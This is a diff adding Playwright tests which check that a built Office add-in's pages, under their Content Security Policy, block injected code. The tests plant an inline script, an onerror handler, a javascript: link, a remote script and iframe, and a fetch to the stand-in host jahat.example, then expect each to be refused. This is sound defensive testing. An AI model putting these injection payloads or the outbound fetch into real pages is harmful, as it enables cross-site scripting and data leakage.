@@ -14,6 +14,10 @@ afterAll(async () => {
   await browser.close();
 });
 
+/** What a page of these tests asked for outside the address it came from; nothing may. */
+const outside: string[] = [];
+afterEach(() => expect(outside.splice(0)).toEqual([]));
+
 interface Visit {
   readonly tab: Page;
   /** What the pages' own security policy refused. */
@@ -30,6 +34,13 @@ async function visit(path: string): Promise<Visit> {
     if (/Content Security Policy/.test(message.text())) refused.push(message.text());
   });
   tab.on('pageerror', (error) => errors.push(String(error)));
+  tab.on('request', (request) => {
+    if (!/^(?:data:|blob:|https:\/\/localhost:3000\/)/.test(request.url())) outside.push(request.url());
+  });
+  // What the policy stopped was never sent.
+  tab.on('requestfailed', (request) => {
+    if (request.failure()?.errorText === 'csp') outside.splice(outside.indexOf(request.url()), 1);
+  });
   await tab.route('**/*', (route) => {
     const file = join(dist, new URL(route.request().url()).pathname);
     return existsSync(file) && statSync(file).isFile()
@@ -49,6 +60,48 @@ describe('the built add-in', () => {
     expect(errors).toEqual([]);
     await tab.close();
   });
+
+  // What an attacker would try who got markup or a script into a page all the same.
+  it.each(['taskpane.html', 'bantuan.html', 'simulator/index.html'])(
+    '%s runs no script but its own, and reaches no other address',
+    async (path) => {
+      const { tab } = await visit(path);
+      const tried = await tab.evaluate(async () => {
+        const ran: string[] = [];
+        Object.assign(window, { ran: (what: string) => ran.push(what) });
+        const script = document.createElement('script');
+        script.textContent = "ran('inline script')";
+        const image = document.createElement('div');
+        image.innerHTML = '<img src="x" onerror="ran(\'handler\')"><a href="javascript:ran(\'link\')">x</a>';
+        const far = document.createElement('script');
+        far.src = 'https://jahat.example/x.js';
+        const frame = document.createElement('iframe');
+        frame.src = 'https://jahat.example/';
+        document.body.append(script, image, far, frame);
+        image.querySelector('a')?.click();
+        const refused = async (send: () => Promise<unknown>): Promise<boolean> =>
+          send().then(
+            () => false,
+            () => true,
+          );
+        const isFetchRefused = await refused(() => fetch('https://jahat.example/?angka'));
+        // Later, and so outside of this function, which the browser lets do everything.
+        const evaluated = await new Promise<string>((resolve) => {
+          setTimeout(() => {
+            try {
+              resolve(String(window.eval('1+1')));
+            } catch {
+              resolve('refused');
+            }
+          }, 0);
+        });
+        return { ran, isFetchRefused, evaluated };
+      });
+      expect(tried).toEqual({ ran: [], isFetchRefused: true, evaluated: 'refused' });
+      await tab.close();
+    },
+    30_000,
+  );
 
   it('has a help page in both languages whose links lead somewhere', async () => {
     const { tab, refused } = await visit('bantuan.html');
